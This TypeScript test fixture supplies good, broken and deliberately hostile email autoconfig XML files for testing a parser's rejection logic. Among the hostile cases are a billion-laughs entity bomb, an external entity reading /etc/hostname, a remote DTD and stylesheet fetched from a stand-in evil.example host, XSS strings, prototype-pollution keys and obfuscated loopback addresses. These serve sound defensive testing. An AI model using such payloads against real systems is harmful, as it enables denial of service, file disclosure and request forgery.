/** Configuration files, good, broken and hostile: for the unit tests, and for the XML parser that readers have. */
import type {ExpectedServers} from '../../src/facts/expected-servers.ts';

export interface ConfigFile {
  xml: string;
  /** The mail domain that is asked for; `example.org` if not said. */
  domain?: string;
  /** The host it comes from; one of the domain if not said. */
  source?: string;
  /** The XML parser of the unit tests does not see what is wrong, or right, with it. */
  isForThunderbird?: true;
  /** Without source and date; undefined where nothing can be used. */
  expected?: ExpectedServers;
}

export const date = '2026-11-21';
export const sourceOf = ({domain = 'example.org', source = `autoconfig.${domain}`}: ConfigFile) => source;

/** What `parsePublished` has to give. */
export function answerTo(file: ConfigFile): ExpectedServers | undefined {
  return file.expected && {imap: [], pop3: [], smtp: [], ...file.expected, source: sourceOf(file), date};
}

function config(content: string, domains = ['example.org']): string {
  const named = domains.map(domain => `<domain>${domain}</domain>`).join('');
  return `<?xml version="1.0" encoding="UTF-8"?>\n<clientConfig version="1.1"><emailProvider id="provider">${named}${content}</emailProvider></clientConfig>`;
}

type Values = Record<string, string | string[]>;

function server(tag: string, type: string, usual: Values, values: Values): string {
  const content = Object.entries({...usual, ...values}).flatMap(([name, value]) => [value].flat().map(text => `<${name}>${text}</${name}>`));
  return `<${tag} type="${type}">${content.join('')}</${tag}>`;
}

const imap = (values: Values = {}) => server('incomingServer', 'imap', {hostname: 'imap.example.org', port: '993', socketType: 'SSL'}, values);
const pop3 = (values: Values = {}) => server('incomingServer', 'pop3', {hostname: 'pop.example.org', port: '995', socketType: 'SSL'}, values);
const smtp = (values: Values = {}) => server('outgoingServer', 'smtp', {hostname: 'smtp.example.org', port: '465', socketType: 'SSL'}, values);

const imapChoice = {hostname: 'imap.example.org', port: 993, socketType: 'SSL'} as const;
const smtpChoice = {hostname: 'smtp.example.org', port: 465, socketType: 'SSL'} as const;
const onlyImap: ExpectedServers = {imap: [imapChoice]};

/** As a big provider writes it: two methods, two ports for sending, what Thunderbird alone understands. */
const big = `<?xml version="1.0"?>
<clientConfig version="1.1">
  <emailProvider id="bigmail.example">
    <domain>bigmail.example</domain>
    <domain>big-mail.example</domain>
    <domain purpose="mx">mx.bigmail.example</domain>
    <displayName>Big Mail</displayName>
    <displayShortName>Big</displayShortName>
    <incomingServer type="imap">
      <hostname>imap.bigmail.example</hostname>
      <port>993</port>
      <socketType>SSL</socketType>
      <username>%EMAILADDRESS%</username>
      <authentication>OAuth2</authentication>
      <authentication>password-cleartext</authentication>
    </incomingServer>
    <incomingServer type="pop3">
      <hostname>pop.bigmail.example</hostname>
      <port>995</port>
      <socketType>SSL</socketType>
      <username>%EMAILADDRESS%</username>
      <authentication>OAuth2</authentication>
      <authentication>password-cleartext</authentication>
      <pop3><leaveMessagesOnServer>true</leaveMessagesOnServer></pop3>
    </incomingServer>
    <outgoingServer type="smtp">
      <hostname>smtp.bigmail.example</hostname>
      <port>465</port>
      <socketType>SSL</socketType>
      <username>%EMAILADDRESS%</username>
      <authentication>OAuth2</authentication>
    </outgoingServer>
    <outgoingServer type="smtp">
      <hostname>smtp.bigmail.example</hostname>
      <port>587</port>
      <socketType>STARTTLS</socketType>
      <username>%EMAILADDRESS%</username>
      <authentication>password-cleartext</authentication>
    </outgoingServer>
    <documentation url="https://help.bigmail.example/"><descr lang="en">How to</descr></documentation>
  </emailProvider>
  <oAuth2><issuer>accounts.bigmail.example</issuer><scope>https://mail.bigmail.example/</scope></oAuth2>
  <webMail><loginPage url="https://bigmail.example/"/></webMail>
</clientConfig>
`;

const bigExpected: ExpectedServers = {
  imap: [
    {hostname: 'imap.bigmail.example', port: 993, socketType: 'SSL', authMethod: 'OAuth2'},
    {hostname: 'imap.bigmail.example', port: 993, socketType: 'SSL', authMethod: 'passwordCleartext'},
  ],
  pop3: [
    {hostname: 'pop.bigmail.example', port: 995, socketType: 'SSL', authMethod: 'OAuth2'},
    {hostname: 'pop.bigmail.example', port: 995, socketType: 'SSL', authMethod: 'passwordCleartext'},
  ],
  smtp: [
    {hostname: 'smtp.bigmail.example', port: 465, socketType: 'SSL', authMethod: 'OAuth2'},
    {hostname: 'smtp.bigmail.example', port: 587, socketType: 'STARTTLS', authMethod: 'passwordCleartext'},
  ],
  login: 'address',
};

const french = `<?xml version="1.0" encoding="UTF-8"?>
<!-- Messagerie académique -->
<clientConfig version="1.1">
  <emailProvider id="académie">
    <domain>ac-exemple.fr</domain>
    <displayName>Académie d’Exemple – « messagerie »</displayName>
    <incomingServer type="imap"><hostname> Imap.AC-Exemple.fr
      </hostname><port> 993 </port><socketType>SSL</socketType><username>%EMAILLOCALPART%</username><authentication>password-cleartext</authentication></incomingServer>
    <outgoingServer type="smtp"><hostname>smtps.ac-exemple.fr</hostname><port>465</port><socketType>SSL</socketType><username>%EMAILLOCALPART%</username><authentication>password-cleartext</authentication></outgoingServer>
  </emailProvider>
</clientConfig>`;

export const good: Record<string, ConfigFile> = {
  'of a big provider': {xml: big, domain: 'bigmail.example', source: 'live.thunderbird.net', expected: bigExpected},
  'of a big provider, for its other domain': {xml: big, domain: 'big-mail.example', source: 'live.thunderbird.net', expected: bigExpected},
  'in French': {xml: french, domain: 'ac-exemple.fr', expected: {
    imap: [{hostname: 'imap.ac-exemple.fr', port: 993, socketType: 'SSL', authMethod: 'passwordCleartext'}],
    smtp: [{hostname: 'smtps.ac-exemple.fr', port: 465, socketType: 'SSL', authMethod: 'passwordCleartext'}],
    login: 'localPart',
  }},
  'that is a template': {
    xml: config(imap({hostname: 'imap.%EMAILDOMAIN%', username: '%EMAILLOCALPART%@%EMAILDOMAIN%'}), ['%EMAILDOMAIN%']), source: 'hoster.example',
    expected: {...onlyImap, login: 'address'},
  },
  'with one server': {xml: config(imap()), expected: onlyImap},
  'with a mark of byte order': {xml: `\uFEFF${config(imap())}`, expected: onlyImap},
  'in capitals': {xml: config(imap({hostname: 'IMAP.Example.ORG'}), ['EXAMPLE.ORG']), source: 'live.thunderbird.net', expected: onlyImap},
  'with words in CDATA': {xml: config(imap({hostname: '<![CDATA[imap.example.org]]>', port: '<![CDATA[993]]>'})), isForThunderbird: true, expected: onlyImap},
  'with a comment inside a value': {xml: config(imap({hostname: 'imap.<!-- not this -->example.org'})), expected: onlyImap},
  'with references to characters': {xml: config(imap({hostname: '&#105;map.example&#x2E;org'})), expected: onlyImap},
  'with several methods, one of them twice': {
    xml: config(imap({authentication: ['plain', 'secure', 'password-encrypted', 'GSSAPI', 'NTLM', 'TLS-client-cert']})),
    expected: {imap: (['passwordCleartext', 'passwordEncrypted', 'GSSAPI', 'NTLM', 'External'] as const).map(authMethod => ({...imapChoice, authMethod}))},
  },
  'with a method nobody knows': {xml: config(imap({authentication: ['telepathy', 'toString', '__proto__']})), expected: onlyImap},
  'with a method nobody knows beside one': {
    xml: config(imap({authentication: ['telepathy', 'OAuth2']})), expected: {imap: [{...imapChoice, authMethod: 'OAuth2'}]},
  },
  'that lets the network send': {
    xml: config(smtp({authentication: ['client-IP-address', 'none']})), expected: {smtp: [{...smtpChoice, authMethod: 'none'}]},
  },
  'that lets anybody fetch': {xml: config(imap({authentication: 'none'})), expected: onlyImap},
  'whose user name is of another kind': {xml: config(imap({username: '%EMAILLOCALPART%@elsewhere.example'})), expected: onlyImap},
  'whose user names differ': {
    xml: config(imap({username: '%EMAILADDRESS%'}) + smtp({username: '%EMAILLOCALPART%'})), expected: {...onlyImap, smtp: [smtpChoice]},
  },
  'whose user name is twice, and the same': {xml: config(imap({username: ['%EMAILADDRESS%', '%EMAILADDRESS%']})), expected: {...onlyImap, login: 'address'}},
  'whose user name is that of a server that is left out': {
    xml: config(imap() + smtp({socketType: 'plain', username: '%EMAILADDRESS%'})), expected: onlyImap,
  },
  'of several providers, one of them ours': {
    xml: config(imap({hostname: 'imap.other.example'}), ['other.example']).replace('</clientConfig>', config(imap()).replace(/^[^]*<clientConfig version="1.1">/, '')),
    source: 'live.thunderbird.net', expected: onlyImap,
  },
  // One file for all that it hosts, at a host of the domain itself.
  'of who hosts the domain': {xml: config(imap({hostname: 'imap.hoster.example'}), ['hoster.example']), source: 'example.org', expected: {imap: [{...imapChoice, hostname: 'imap.hoster.example'}]}},
  'with kinds of server we do not know': {xml: config(imap() + server('incomingServer', 'exchange', {hostname: 'x.example.org', port: '443', socketType: 'SSL'}, {})), expected: onlyImap},
  'with one server of several that cannot be used': {
    xml: config(imap({port: '0'}) + imap({port: '70000'}) + imap({hostname: 'javascript:alert(1)'}) + imap() + smtp({port: 'x'})), expected: onlyImap,
  },
  'with unencrypted servers beside another': {xml: config(imap({port: '143', socketType: 'plain'}) + imap()), expected: onlyImap},
  'with a script, which is nothing to us': {
    xml: config(`<script>alert(1)</script><script xmlns="http://www.w3.org/1999/xhtml">document.title = 'run'</script>${imap()}`), expected: onlyImap,
  },
  'with an instruction to a program': {xml: config(imap()).replace('?>', '?><?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>'), expected: onlyImap},
  'that is nearly too long': {xml: config(imap() + ' '.repeat(199_000)), expected: onlyImap},
};

const doctype = '<!DOCTYPE clientConfig [';
const laughs = Array.from({length: 9}, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');

/** Nothing of these can be used. */
export const bad: Record<string, ConfigFile> = {
  'nothing': {xml: ''},
  'a space': {xml: ' '},
  'a text': {xml: 'Not found'},
  'a document type': {xml: config(imap()).replace('<clientConfig', '<!DOCTYPE clientConfig><clientConfig')},
  'a document type in small letters': {xml: config(imap()).replace('<clientConfig', '<!doctype clientConfig><clientConfig')},
  'a billion laughs': {xml: config(imap({hostname: '&lol9;'})).replace('<clientConfig', `${doctype}<!ENTITY lol0 "lol">${laughs}]><clientConfig`)},
  'an external entity': {xml: config(imap({hostname: '&file;'})).replace('<clientConfig', `${doctype}<!ENTITY file SYSTEM "file:///etc/hostname">]><clientConfig`)},
  'an entity of a parameter': {xml: config(imap()).replace('<clientConfig', `${doctype}<!ENTITY % remote SYSTEM "https://evil.example/x.dtd">%remote;]><clientConfig`)},
  'an entity nobody declared': {xml: config(imap({hostname: '&nbsp;imap.example.org'}))},
  'ten megabytes': {xml: config(imap() + 'x'.repeat(10_000_000))},
  'depth, and no end': {xml: config(imap()).replace('</clientConfig>', '<a>'.repeat(20_000)), isForThunderbird: true},
  'another root': {xml: config(imap()).replaceAll('clientConfig', 'autodiscover')},
  'another root around it': {xml: `<root>${config(imap()).replace(/^<\?.*\?>\n/, '')}</root>`},
  'a root of another namespace': {xml: config(imap()).replace('<clientConfig', '<x:clientConfig xmlns:x="https://evil.example/"').replace('</clientConfig', '</x:clientConfig')},
  'a root without anything': {xml: '<clientConfig/>'},
  'a provider without servers': {xml: config('')},
  'servers outside the provider': {xml: config('').replace('</clientConfig>', `${imap()}</clientConfig>`)},
  'servers deeper than they should be': {xml: config(`<servers>${imap()}</servers>`)},
  'two roots': {xml: config(imap()) + '<clientConfig/>', isForThunderbird: true},
  'an element that never ends': {xml: config(imap()).replace('</incomingServer>', ''), isForThunderbird: true},
  'a half': {xml: config(imap()).slice(0, 220), isForThunderbird: true},
  'a character no XML has': {xml: config(imap({hostname: 'imap.\u0001example.org'}))},
  'a page in HTML': {xml: '<html><head><title>404</title></head><body><p>Not found<br><img src=x></body></html>'},
  'a page in HTML that is XML too': {xml: `<html xmlns="http://www.w3.org/1999/xhtml"><body>${config(imap()).replace(/^<\?.*\?>\n/, '')}</body></html>`},
  'a page in HTML 5': {xml: '<!doctype html><title>Welcome</title>'},
  'JSON': {xml: '{"clientConfig": {}}'},
  'UTF-16, read as UTF-8': {xml: [...config(imap())].join('\u0000')},
  'UTF-16 with its mark, read as UTF-8': {xml: `\uFFFD\uFFFD${[...config(imap())].join('\u0000')}`},
  'another domain, from a list for everybody': {xml: config(imap(), ['other.example']), source: 'live.thunderbird.net'},
  'another domain, from an organisation': {xml: config(imap(), ['other.example']), source: 'intranet.example.net'},
  'another domain, from a host that only looks like ours': {xml: config(imap(), ['other.example']), source: 'evilexample.org'},
  'no domain, from a list for everybody': {xml: config(imap(), []), source: 'live.thunderbird.net'},
  'two providers, neither of them ours': {
    xml: config(imap(), ['a.example']).replace('</clientConfig>', config(imap(), ['b.example']).replace(/^[^]*<clientConfig version="1.1">/, '')),
  },
  'port 0': {xml: config(imap({port: '0'}))},
  'port 70000': {xml: config(imap({port: '70000'}))},
  'port x': {xml: config(imap({port: 'x'}))},
  'port -993': {xml: config(imap({port: '-993'}))},
  'port 993.5': {xml: config(imap({port: '993.5'}))},
  'port 0x3e1': {xml: config(imap({port: '0x3e1'}))},
  'port 9e2': {xml: config(imap({port: '9e2'}))},
  'a port in other digits': {xml: config(imap({port: '９９３'}))},
  'a port of many digits': {xml: config(imap({port: '9'.repeat(1000)}))},
  'no port': {xml: config(imap({port: []}))},
  'two ports': {xml: config(imap({port: ['993', '993']}))},
  'no host': {xml: config(imap({hostname: []}))},
  'an empty host': {xml: config(imap({hostname: ' '}))},
  'two hosts': {xml: config(imap({hostname: ['imap.example.org', 'evil.example']}))},
  'a host with an element inside': {xml: config(imap({hostname: 'imap.<b>evil.example</b>'}))},
  'a host that is a script': {xml: config(imap({hostname: 'javascript:alert(1)'}))},
  'a host that is an address': {xml: config(imap({hostname: 'https://evil.example/'}))},
  'a host with a path': {xml: config(imap({hostname: 'imap.example.org/../..'}))},
  'a host with a name before it': {xml: config(imap({hostname: 'user@imap.example.org'}))},
  'a host that turns the direction of writing': {xml: config(imap({hostname: 'imap.\u202Eexample.org'}))},
  'a host of a thousand letters': {xml: config(imap({hostname: 'x'.repeat(1000)}))},
  'a host that is a mark-up of its own': {xml: config(imap({hostname: '&lt;img src=x onerror=alert(1)&gt;'}))},
  'a host that is the inside of every object': {xml: config(imap({hostname: '__proto__'}))},
  'this computer': {xml: config(imap({hostname: '127.0.0.1'}) + smtp({hostname: 'localhost'}))},
  'this computer, in other words': {xml: config([
    '127.1', '127.0.1', '0', '0.0.0.0', '2130706433', '0x7f000001', '0x7f.1', '0177.0.0.1', '017700000001', '1.2.3.0x', '127.0.0.1.', '[::1]', '::1', '::', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]',
    'LOCALHOST', 'localhost.', 'mail.localhost', 'localhost.localdomain', 'localhost4', 'ip6-localhost', 'ip6-loopback',
  ].map(hostname => imap({hostname})).join(''))},
  'addresses in the place of names': {xml: config(['192.168.1.1', '10.1', '8.8.8.8', '134744072', '[2001:db8::1]'].map(hostname => imap({hostname})).join(''))},
  'a placeholder nobody knows': {xml: config(imap({hostname: '%EVIL%.example.org'}))},
  'plain only': {xml: config(imap({port: '143', socketType: 'plain'}) + smtp({port: '25', socketType: 'plain'}))},
  'a kind of encryption nobody knows': {xml: config(imap({socketType: 'ROT13'}))},
  'two kinds of encryption': {xml: config(imap({socketType: ['SSL', 'STARTTLS']}))},
  'no kind of encryption': {xml: config(imap({socketType: []}))},
  'what every object has, as encryption': {xml: config(imap({socketType: 'constructor'}))},
  'ports that contradict the encryption': {
    xml: config(imap({socketType: 'STARTTLS'}) + imap({port: '143'}) + pop3({socketType: 'STARTTLS'}) + pop3({port: '110'})
      + smtp({socketType: 'STARTTLS'}) + smtp({port: '587'}) + smtp({port: '25'})),
  },
  'a server that fetches and says it sends': {xml: config(imap().replaceAll('incomingServer', 'outgoingServer'))},
  'a server of no type': {xml: config(imap().replace(' type="imap"', ''))},
  'a type in capitals': {xml: config(imap().replace('"imap"', '"IMAP"'))},
  'more servers than anybody has': {xml: config(imap().repeat(501))},
};
